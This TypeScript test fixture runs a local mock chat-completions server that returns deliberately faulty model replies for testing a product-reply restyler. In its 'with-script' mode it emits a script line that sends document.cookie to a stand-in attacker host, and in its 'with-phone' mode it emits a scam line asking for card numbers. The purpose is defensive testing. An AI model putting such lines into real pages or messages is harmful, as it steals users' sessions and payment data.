/**
 * A loopback HTTP server speaking the OpenAI chat-completions protocol, for restyler tests. The first path segment
 * picks how it answers: `http://127.0.0.1:<port>/<mode>/v1` → `POST /<mode>/v1/chat/completions`.
 */
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';

export type ChatMode =
  | 'good'
  | 'slow'
  | 'status500'
  | 'invalid-json'
  | 'hallucinate-extra'
  | 'hallucinate-omit'
  | 'too-long'
  | 'with-url'
  | 'with-script'
  | 'with-phone'
  | 'drop-price'
  | 'empty';

/** What a restyled answer starts with (so tests can tell a rewrite from the template text). */
export const RESTYLED = 'Restyled:';

export interface ChatRequest {
  mode: string;
  authorization?: string;
  body: { model: string; messages: { role: string; content: string }[]; temperature?: number };
}

export interface ChatServer {
  /** The base URL for a mode (what `LLM_BASE_URL` would be set to). */
  url(mode: ChatMode): string;
  /** Every request received, in order. */
  requests: ChatRequest[];
  close(): Promise<void>;
}

/** The draft the restyler sent: the text after "Draft reply:" in the user message. */
export function draftOf(request: ChatRequest): string {
  const user = request.body.messages.find((m) => m.role === 'user')?.content ?? '';
  return user.slice(user.indexOf('Draft reply:') + 'Draft reply:'.length).trim();
}

/** The answer text for a mode, built from the draft like a model would. */
function answerFor(mode: ChatMode, draft: string): string {
  const lines = draft.split('\n');
  switch (mode) {
    case 'good':
    case 'slow':
      return `${RESTYLED} ${lines.join('\n')}`;
    case 'hallucinate-extra':
      return `${RESTYLED} ${draft}\nAlso consider Silk scarf [demo:not-in-the-list].`;
    case 'hallucinate-omit': {
      const hasId = (line: string) => /\[[a-z]+:[^\]]+\]/.test(line);
      const firstItem = lines.find(hasId);
      return `${RESTYLED} ${lines.filter((l) => !hasId(l) || l === firstItem).join('\n')}`;
    }
    case 'too-long':
      return `${RESTYLED} ${draft}\n${'So chic. '.repeat(Math.ceil(draft.length / 4))}`;
    case 'with-url':
      return `${RESTYLED} ${draft}\nShop it at https://example.com/deal`;
    case 'with-script':
      return `${RESTYLED} ${draft}\n<script>fetch('//evil.example/'+document.cookie)</script>`;
    case 'with-phone':
      return `${RESTYLED} ${draft}\nTo reserve, send your card number to +44 20 7946 0958.`;
    case 'drop-price':
      return `${RESTYLED} ${draft.replace(/€\d+\.\d\d/, 'a great price')}`;
    default:
      return '';
  }
}

async function readBody(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

/**
 * Starts the server on 127.0.0.1 (a free port). `slowMs` is how long the slow mode waits before answering.
 * @example
 * const server = await startChatServer();
 * const config = loadConfig({ LLM_BASE_URL: server.url('good') });
 */
export async function startChatServer(options: { slowMs?: number } = {}): Promise<ChatServer> {
  const requests: ChatRequest[] = [];
  const timers = new Set<NodeJS.Timeout>();
  const server = createServer(async (request, response) => {
    const mode = (request.url ?? '').split('/')[1] as ChatMode;
    if (request.method !== 'POST' || !request.url?.endsWith('/v1/chat/completions')) {
      response.writeHead(404).end();
      return;
    }
    const record: ChatRequest = {
      mode,
      authorization: request.headers.authorization,
      body: JSON.parse(await readBody(request)),
    };
    requests.push(record);
    if (mode === 'status500') {
      response.writeHead(500, { 'content-type': 'application/json' }).end('{"error":{"message":"overloaded"}}');
      return;
    }
    if (mode === 'invalid-json') {
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"choices": [ {"message": ');
      return;
    }
    const send = () =>
      response.writeHead(200, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          id: 'chatcmpl-test',
          object: 'chat.completion',
          model: record.body.model,
          choices: [
            {
              index: 0,
              finish_reason: 'stop',
              message: { role: 'assistant', content: answerFor(mode, draftOf(record)) },
            },
          ],
        }),
      );
    if (mode === 'slow') {
      const timer = setTimeout(() => {
        timers.delete(timer);
        if (!response.destroyed) send();
      }, options.slowMs ?? 2000);
      timers.add(timer);
    } else send();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: (mode) => `http://127.0.0.1:${port}/${mode}/v1`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        for (const timer of timers) clearTimeout(timer);
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
